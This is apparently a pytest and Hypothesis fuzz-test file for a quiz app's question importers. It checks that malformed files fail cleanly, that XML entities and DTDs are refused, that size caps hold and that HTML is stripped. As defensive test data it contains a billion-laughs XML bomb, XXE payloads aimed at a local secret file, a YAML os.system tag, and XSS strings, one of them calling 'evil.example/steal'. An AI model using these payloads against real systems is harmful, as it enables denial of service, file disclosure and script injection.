"""Hostile input: random and mutated files thrown at every importer.

Every read ends in a result or a QuizappError (FormatErrors is one), never
another exception and never a hang; a failed import leaves the bank as it was;
XML entities and DTDs are refused; files above the size limit are refused
without being read; HTML in question text never survives into the bank.
"""

from __future__ import annotations

import os
import resource
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quizapp.content import interchange
from quizapp.errors import FormatErrors, QuizappError
from quizapp.formats import quizset, registry
from quizapp.formats.common import MAX_FILE_BYTES, MAX_QUESTIONS
from quizapp.formats.moodle_xml_tree import MAX_ELEMENTS
from quizapp.store.bank import Bank

DATA = Path(__file__).parent / "data" / "formats"
BUNDLED = Path(__file__).resolve().parents[2] / "questions" / "caucasus-peace-talks.yaml"
SAMPLES = {
    "gift": DATA / "every_construct.gift",
    "moodle-xml": DATA / "every_construct.xml",
    "aiken": DATA / "sample.aiken",
    "csv": DATA / "with_header.csv",
    "tsv": DATA / "anki_headers.txt",
    "quizapp": BUNDLED,
}
READABLE = registry.names(reading=True)
GUESS_SUFFIXES = (".gift", ".xml", ".aiken", ".csv", ".tsv", ".yaml", ".txt")
HANG_SECONDS = 30  # a guard against endless loops, far above any real read

FUZZ = settings(
    deadline=None,
    max_examples=80,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Pieces that break parsers: structure characters, encodings, huge numbers, nesting.
NASTY = [
    b"{", b"}", b"{{", b"}}", b"\\", b"\\{", b'"', b"'", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe",
    b"\r", b"\r\n", b"\t", b"\n\n", b"::", b"->", b"~", b"=", b"#", b"####", b"%", b"%101%",
    b"%-0%", b"%1e3%", b"#1..", b"#..", b":", b"nan", b"inf", b"-inf", b"1e999", b"9" * 5000,
    b"-" + b"9" * 400, b"0x1F", b"1_000", b"\xed\xa0\x80", b"\xc3", b"\xf4\x90\x80\x80",
    b"\xee\x80\x80", b"<", b">", b"&", b"&amp;", b"&#0;", b"&#x110000;", b"&nosuch;",
    b"<![CDATA[", b"]]>", b"<!--", b"-->", b"<!DOCTYPE x>", b"<?xml version='1.0'?>",
    b"<a>" * 300, b"</a>" * 300, b"<question type='multichoice'>", b"</question>",
    b"<answer fraction='1e999'>", b"<answer fraction='nan'>", b"<text>", b"</text>",
    b"<script>alert(1)</script>", b'<img src="http://example.com/x.png">', b"[html]",
    b"ANSWER: A", b"A) ", b"Z. ", b"#separator:", b"#separator:\"", b"#separator:#",
    b"#separator:Tab", b"#columns:", b"#html:maybe", b"#tags column:0",
    b"#tags column:99999999999999999999", b"#guid column:1", b"tags:", b"- ", b": ",
    b"&a ", b"*a", b"!!python/object:os.system ", b"? ", b"[" * 300, b"]" * 300,
    b"{" * 300, b"}" * 300, b"---\n", b"...\n", b"%YAML 1.1\n", b"\x85", "\u2028".encode(),
    b"$CATEGORY:", b"// [id:x]", b"::name::", b"_____", b"\xe2\x80\xae",
]  # fmt: skip


@contextmanager
def hang_guard(seconds: int = HANG_SECONDS) -> Iterator[None]:
    """Fail with TimeoutError instead of hanging (POSIX main thread only)."""

    def expired(_signum: int, _frame: object) -> None:
        raise TimeoutError(f"reading did not finish in {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def read_every_way(folder: Path, raw: bytes) -> None:
    """Read ``raw`` as each format and by guessing; only results or QuizappError."""
    folder.mkdir(parents=True, exist_ok=True)
    plain = folder / "input.bin"
    plain.write_bytes(raw)
    attempts: list[tuple[Path, str | None, bool]] = [
        (plain, fmt, skip) for fmt in READABLE for skip in (False, True)
    ]
    for suffix in GUESS_SUFFIXES:
        guessed = folder / f"input{suffix}"
        guessed.write_bytes(raw)
        attempts.append((guessed, None, False))
    for path, fmt, skip in attempts:
        with hang_guard():
            try:
                found = interchange.read_file(path, format=fmt, skip_bad=skip)
            except QuizappError as exc:
                assert str(exc).strip(), f"an error without a message ({fmt}, {path.name})"
                assert "\n" not in str(exc), f"a multi-line error message: {exc}"
                continue
        assert found.data.questions
        assert found.format in READABLE


def mutate(raw: bytes, ops: list[tuple[int, int, int, int]]) -> bytes:
    """Apply line and byte edits to ``raw``; each op is (kind, where, other, piece)."""
    lines = raw.split(b"\n")
    for kind, where, other, piece in ops:
        if not lines:
            lines = [b""]
        i, j = where % len(lines), other % len(lines)
        if kind == 0:  # delete a line
            del lines[i]
        elif kind == 1:  # duplicate a line
            lines.insert(i, lines[i])
        elif kind == 2:  # swap two lines
            lines[i], lines[j] = lines[j], lines[i]
        elif kind == 3:  # insert a nasty piece inside a line
            at = other % (len(lines[i]) + 1)
            lines[i] = lines[i][:at] + NASTY[piece % len(NASTY)] + lines[i][at:]
        elif kind == 4:  # delete a few bytes of a line
            at = other % (len(lines[i]) + 1)
            lines[i] = lines[i][:at] + lines[i][at + 1 + piece % 8 :]
        elif kind == 5:  # overwrite one byte with any byte
            if lines[i]:
                at = other % len(lines[i])
                lines[i] = lines[i][:at] + bytes([piece % 256]) + lines[i][at + 1 :]
        else:  # swap two bytes of a line
            if len(lines[i]) > 1:
                a, b = where % len(lines[i]), other % len(lines[i])
                line = bytearray(lines[i])
                line[a], line[b] = line[b], line[a]
                lines[i] = bytes(line)
    return b"\n".join(lines)


OPS = st.lists(
    st.tuples(
        st.integers(0, 6),
        st.integers(0, 10_000),
        st.integers(0, 10_000),
        st.integers(0, 1_000),
    ),
    min_size=1,
    max_size=12,
)


# --- random and mutated files ------------------------------------------------


@FUZZ
@given(raw=st.binary(max_size=2_000))
def test_random_bytes_give_a_result_or_a_clear_error(tmp_path: Path, raw: bytes) -> None:
    # Given any bytes at all, When every importer reads them, Then no other exception escapes
    read_every_way(tmp_path / "bytes", raw)


@FUZZ
@given(text=st.text(max_size=1_500))
def test_random_text_gives_a_result_or_a_clear_error(tmp_path: Path, text: str) -> None:
    read_every_way(tmp_path / "text", text.encode("utf-8", "surrogatepass"))


STRUCTURED_TEXT = st.lists(
    st.one_of(
        st.sampled_from([n.decode("utf-8", "replace") for n in NASTY]),
        st.text(alphabet="abc XYZ019.\n", max_size=12),
    ),
    max_size=60,
).map("".join)


@FUZZ
@given(text=STRUCTURED_TEXT)
def test_structure_soup_gives_a_result_or_a_clear_error(tmp_path: Path, text: str) -> None:
    # Given text made of the characters each grammar cares about
    read_every_way(tmp_path / "soup", text.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_every_sample_reads_as_its_own_format(name: str) -> None:
    # The mutations below start from files that really import
    found = interchange.read_file(SAMPLES[name], format=name, skip_bad=True)
    assert found.data.questions


@pytest.mark.parametrize("name", sorted(SAMPLES))
@settings(FUZZ, max_examples=100)
@given(ops=OPS)
def test_mutated_samples_give_a_result_or_a_clear_error(
    tmp_path: Path, name: str, ops: list[tuple[int, int, int, int]]
) -> None:
    # Given a valid file with lines and bytes deleted, duplicated, swapped or inserted
    raw = mutate(SAMPLES[name].read_bytes(), ops)
    # When every importer reads it, Then each ends in a result or a QuizappError
    read_every_way(tmp_path / "mutated", raw)


@pytest.mark.parametrize(
    ("name", "piece"),
    [
        ("moodle-xml", b"<a>" * 50_000 + b"</a>" * 50_000),
        ("gift", b"{" * 200_000),
        ("gift", b"::" * 100_000),
        ("gift", b"\\" * 200_001),
        ("aiken", b"A) x\n" * 50_000),
        ("csv", b'"' * 100_001),
        ("tsv", b"#columns:" + b"front\t" * 50_000 + b"\n"),
        ("quizapp", b"[" * 10_000 + b"]" * 10_000),
        ("quizapp", b"a: &a [" + b"*a, " * 10_000 + b"]\n"),
        ("gift", b"Q {#" + b"9" * 100_000 + b"}"),
        ("gift", b"<b>" * 50_000 + b" {=a ~b}"),
    ],
)
def test_deep_nesting_and_huge_tokens_end_cleanly(tmp_path: Path, name: str, piece: bytes) -> None:
    # Given a file with extreme nesting or one huge token inserted into a valid sample
    raw = SAMPLES[name].read_bytes()
    middle = len(raw) // 2
    read_every_way(tmp_path / "deep", raw[:middle] + piece + raw[middle:])
    read_every_way(tmp_path / "alone", piece)


# --- a failed import changes nothing ---------------------------------------


def dump(bank: Bank) -> list[str]:
    assert bank.path is not None
    with sqlite3.connect(bank.path) as connection:
        return list(connection.iterdump())


@settings(FUZZ, max_examples=15)
@given(ops=OPS, name=st.sampled_from(sorted(SAMPLES)))
def test_a_failed_import_leaves_the_bank_unchanged(
    tmp_path: Path, bank: Bank, ops: list[tuple[int, int, int, int]], name: str
) -> None:
    # Given a bank that already holds a set called "mutated"
    interchange.import_file(bank, SAMPLES["gift"], set_name="mutated", replace=True)
    before = dump(bank)
    path = tmp_path / f"mutated{SAMPLES[name].suffix}"
    path.write_bytes(mutate(SAMPLES[name].read_bytes(), ops) + b"\n\x00{{broken")
    # When a broken file is imported in place of that set
    with pytest.raises(QuizappError):
        interchange.import_file(bank, path, set_name="mutated", replace=True)
    # Then the bank is exactly as before
    assert dump(bank) == before


def test_a_name_clash_leaves_the_bank_unchanged(tmp_path: Path, bank: Bank) -> None:
    interchange.import_file(bank, SAMPLES["gift"], set_name="taken")
    before = dump(bank)
    with pytest.raises(QuizappError, match="already exists"):
        interchange.import_file(bank, SAMPLES["aiken"], set_name="taken", skip_bad=True)
    assert dump(bank) == before


# --- XML bombs, entities, DTDs ----------------------------------------------

QUESTION = (
    b"<quiz><question type='shortanswer'><questiontext format='plain_text'>"
    b"<text>Q &e;?</text></questiontext><answer fraction='100'><text>a</text></answer>"
    b"</question></quiz>"
)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY e "lol">
 <!ENTITY e1 "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY e2 "&e1;&e1;&e1;&e1;&e1;&e1;&e1;&e1;&e1;&e1;">
 <!ENTITY e3 "&e2;&e2;&e2;&e2;&e2;&e2;&e2;&e2;&e2;&e2;">
 <!ENTITY e4 "&e3;&e3;&e3;&e3;&e3;&e3;&e3;&e3;&e3;&e3;">
 <!ENTITY e5 "&e4;&e4;&e4;&e4;&e4;&e4;&e4;&e4;&e4;&e4;">
 <!ENTITY e6 "&e5;&e5;&e5;&e5;&e5;&e5;&e5;&e5;&e5;&e5;">
 <!ENTITY e7 "&e6;&e6;&e6;&e6;&e6;&e6;&e6;&e6;&e6;&e6;">
 <!ENTITY e8 "&e7;&e7;&e7;&e7;&e7;&e7;&e7;&e7;&e7;&e7;">
 <!ENTITY e9 "&e8;&e8;&e8;&e8;&e8;&e8;&e8;&e8;&e8;&e8;">
]>
""" + QUESTION.replace(b"&e;", b"&e9;")
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY e "' + b"x" * 50_000 + b'">]>'
    + QUESTION.replace(b"&e;", b"&e;" * 5_000)
)  # fmt: skip


def external(url: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY e SYSTEM "{url}">]>'.encode() + QUESTION


def parameter_entity(url: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY % p SYSTEM "{url}"> %p;]>'.encode() + (
        QUESTION.replace(b"&e;", b"")
    )


@pytest.mark.parametrize(
    "kind",
    [
        "billion-laughs",
        "quadratic-blowup",
        "external-file",
        "external-http",
        "parameter-entity-file",
        "parameter-entity-http",
        "external-dtd",
        "internal-dtd",
    ],
)
def test_xml_entities_and_dtds_are_refused(tmp_path: Path, kind: str) -> None:
    # Given a Moodle XML file with entities or a DTD (secret.txt must never be read)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET", encoding="utf-8")
    files = {
        "billion-laughs": BILLION_LAUGHS,
        "quadratic-blowup": QUADRATIC_BLOWUP,
        "external-file": external(secret.as_uri()),
        "external-http": external("http://127.0.0.1:9/x.txt"),
        "parameter-entity-file": parameter_entity(secret.as_uri()),
        "parameter-entity-http": parameter_entity("http://127.0.0.1:9/x.dtd"),
        "external-dtd": b'<?xml version="1.0"?><!DOCTYPE quiz SYSTEM "http://127.0.0.1:9/q.dtd">'
        + QUESTION.replace(b"&e;", b""),
        "internal-dtd": b'<?xml version="1.0"?><!DOCTYPE quiz [<!ELEMENT quiz ANY>]>'
        + QUESTION.replace(b"&e;", b""),
    }
    path = tmp_path / "hostile.xml"
    path.write_bytes(files[kind])
    # When it is read, with or without naming the format
    for fmt in ("moodle-xml", None):
        with hang_guard(), pytest.raises(FormatErrors) as caught:
            interchange.read_file(path, format=fmt, skip_bad=True)
        # Then it is refused with one clear line naming the file, and nothing was read
        message = str(caught.value)
        assert message.startswith(str(path)), message
        assert "entit" in message or "DTD" in message, message
        assert "TOPSECRET" not in message
        assert "\n" not in message


def test_an_entity_reference_without_a_declaration_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "undeclared.xml"
    path.write_bytes(QUESTION)
    with pytest.raises(FormatErrors, match=r"undeclared\.xml:1: XML syntax: undefined entity"):
        interchange.read_file(path)


# --- files above the size limit ---------------------------------------------


def test_a_set_file_above_the_size_limit_is_refused_by_the_set_loader(tmp_path: Path) -> None:
    # Given a set file one byte above the limit, loaded directly (as `sets.add_set_file` does)
    path = tmp_path / "huge.yaml"
    with path.open("wb") as handle:
        handle.write(b"format: quizapp-set/1\n")
        handle.truncate(MAX_FILE_BYTES + 1)
    # Then it is refused before being read, naming its size and the limit
    with hang_guard(), pytest.raises(FormatErrors, match=r"the file is 20.0 MiB; the limit"):
        quizset.load(path)


@pytest.mark.parametrize("suffix", [".gift", ".xml", ".aiken", ".csv", ".tsv", ".yaml", ".txt"])
def test_a_file_above_the_size_limit_is_refused(tmp_path: Path, suffix: str) -> None:
    # Given a sparse file one byte above the limit (no disk space used)
    path = tmp_path / f"huge{suffix}"
    with path.open("wb") as handle:
        handle.write(b"Q {T}\n")
        handle.truncate(MAX_FILE_BYTES + 1)
    # When it is imported by any format, Then it is refused naming its size and the limit
    formats: list[str | None] = [*READABLE, None]
    for fmt in formats:
        try:
            with hang_guard():
                interchange.read_file(path, format=fmt)
        except FormatErrors as exc:
            limit = "the limit is 20.0 MiB per imported file"
            assert str(exc) == f"{path}: the file is 20.0 MiB; {limit}"
        except QuizappError as exc:  # .txt with no format: sniffing reads only its first 64 KiB
            assert fmt is None and suffix == ".txt", exc
        else:
            pytest.fail(f"a file above the limit was read as {fmt}")


def test_a_file_at_the_size_limit_is_read(tmp_path: Path) -> None:
    # The limit is inclusive: a file of exactly MAX_FILE_BYTES is read
    path = tmp_path / "limit.gift"
    question = b"::q1:: Is the sky blue? {T}\n"
    path.write_bytes(question + b" " * (MAX_FILE_BYTES - len(question)))
    assert len(interchange.read_file(path).data.questions) == 1


DEVICE_READER = """
import sys
from quizapp.content import interchange
from quizapp.errors import QuizappError
for path in sys.argv[1:]:
    for fmt in [*interchange.registry.names(reading=True), None]:
        try:
            interchange.read_file(path, format=fmt)
            print("READ", path, fmt)
        except QuizappError as exc:
            print(exc)
"""


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))


def test_devices_and_pipes_are_refused_without_reading(tmp_path: Path) -> None:
    # Given /dev/zero (size 0, but it never ends) and a named pipe nobody writes to
    pipes = [tmp_path / "pipe.gift", tmp_path / "pipe.txt"]  # .txt: guessing reads its start
    for pipe in pipes:
        os.mkfifo(pipe)
    devices = [*map(str, pipes), *(d for d in ("/dev/zero", "/dev/urandom") if Path(d).exists())]
    # When a separate process with bounded memory imports them (so a regression cannot
    # exhaust this machine's memory or hang the test run)
    done = subprocess.run(
        [sys.executable, "-c", DEVICE_READER, *devices],
        capture_output=True,
        text=True,
        timeout=HANG_SECONDS * 4,
        preexec_fn=_limit_memory,
        check=False,
    )
    # Then every read is refused with one clear line
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == len(devices) * (len(READABLE) + 1)
    for line in lines:
        assert line.endswith("not a regular file") or "cannot tell the format" in line, line


# --- HTML in question text --------------------------------------------------

HOSTILE_HTML = (
    '<p>Which <b>river</b>?<script>fetch("http://evil.example/steal")</script>'
    '<img src="http://example.com/x.png" onerror="alert(1)">'
    '<a href="javascript:alert(2)">click</a><iframe src="http://evil.example"></iframe>'
    "<style>body{background:url(http://evil.example/bg)}</style></p>"
)
HOSTILE_GIFT = (
    "::html:: [html]" + HOSTILE_HTML.replace("{", "\\{").replace("}", "\\}").replace(":", "\\:")
    + ' {=[html]<b>Danube</b><img src\\="http\\://example.com/a.png"> '
    '#[html]<script>alert(3)</script>right ~Rhine#<a href\\="javascript\\:x()">no</a>'
    ' ####[html]<img src\\="https\\://example.com/f.png">see <script>x()</script>}\n'
)  # fmt: skip
HOSTILE_XML = f"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="multichoice">
    <name><text>html</text></name>
    <questiontext format="html"><text><![CDATA[{HOSTILE_HTML}]]></text></questiontext>
    <generalfeedback format="html"><text><![CDATA[<img src="http://example.com/g.png">
      <script>alert(4)</script>]]></text></generalfeedback>
    <answer fraction="100" format="html"><text><![CDATA[<b>Danube</b>
      <img src="http://example.com/a.png">]]></text>
      <feedback format="html"><text><![CDATA[<script>alert(5)</script>right]]></text></feedback>
    </answer>
    <answer fraction="0" format="html"><text><![CDATA[<a href="javascript:x()">Rhine</a>]]></text>
      <feedback format="html"><text>&lt;img src="http://example.com/b.png"&gt;no</text></feedback>
    </answer>
  </question>
</quiz>
"""
HOSTILE_CSV = (
    "#html:true\n"
    '"<script>alert(1)</script>Capital of <b>Peru</b>?",'
    '"<img src=""http://example.com/x.png"">Lima<a href=""javascript:x()"">!</a>"\n'
)


@pytest.mark.parametrize(
    ("suffix", "content"),
    [(".gift", HOSTILE_GIFT), (".xml", HOSTILE_XML), (".csv", HOSTILE_CSV)],
)
def test_html_in_questions_is_reduced_to_text(
    tmp_path: Path, bank: Bank, suffix: str, content: str
) -> None:
    # Given a file whose question text, answers and feedback hold scripts, remote images, links
    path = tmp_path / f"hostile{suffix}"
    path.write_text(content, encoding="utf-8")
    # When it is imported
    interchange.import_file(bank, path)
    # Then no markup that could run or load anything reaches the bank
    stored = "\n".join(dump(bank)).lower()
    banned_words = ("<script", "<img", "<iframe", "<style", "javascript:", "onerror", "example")
    for banned in banned_words:
        assert banned not in stored, banned
    assert "danube" in stored or "lima" in stored


# --- many questions: a cap per file keeps memory bounded ----------------------

CAP_FILES = {
    ".gift": ("", lambda n: f"::q{n}::Q{n}?{{T}}\n\n", ""),
    ".xml": (
        "<quiz>\n",
        lambda n: (
            f'<question type="truefalse"><questiontext><text>Q{n}?</text>'
            '</questiontext><answer fraction="100"><text>true</text></answer></question>\n'
        ),
        "</quiz>\n",
    ),
    ".csv": ("", lambda n: f"Front {n},back\n", ""),
    ".aiken": ("", lambda n: f"Q{n}?\nA) a\nB) b\nANSWER: A\n", ""),
    ".yaml": (
        "format: quizapp-set/1\nname: many\nquestions:\n",
        lambda n: f"- {{id: q{n}, kind: true_false, prompt: Q{n}?, answer: true}}\n",
        "",
    ),
}


def _many(tmp_path: Path, suffix: str, count: int) -> Path:
    head, item, tail = CAP_FILES[suffix]
    path = tmp_path / f"many{suffix}"
    path.write_text(head + "".join(item(n) for n in range(count)) + tail, encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", list(CAP_FILES))
def test_a_file_over_the_question_cap_is_refused_naming_the_cap(
    tmp_path: Path, suffix: str
) -> None:
    path = _many(tmp_path, suffix, MAX_QUESTIONS + 1)
    with hang_guard(), pytest.raises(FormatErrors) as caught:
        interchange.read_file(path, skip_bad=True)
    message = str(caught.value)
    assert message.startswith(f"{path}:")
    assert f"more than {MAX_QUESTIONS:,} questions, the limit per imported file" in message


def test_a_file_at_the_question_cap_is_read(tmp_path: Path) -> None:
    path = _many(tmp_path, ".gift", MAX_QUESTIONS)
    assert len(interchange.read_file(path).data.questions) == MAX_QUESTIONS


def test_one_xml_question_with_countless_elements_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "elements.xml"
    head = '<quiz><question type="truefalse"><questiontext><text>Q?</text></questiontext>'
    path.write_text(head + "<a/>" * (MAX_ELEMENTS + 1) + "</question></quiz>", encoding="utf-8")
    with hang_guard(), pytest.raises(FormatErrors) as caught:
        interchange.read_file(path)
    assert str(caught.value) == (
        f"{path}:1: one question holds more than {MAX_ELEMENTS:,} XML elements"
    )
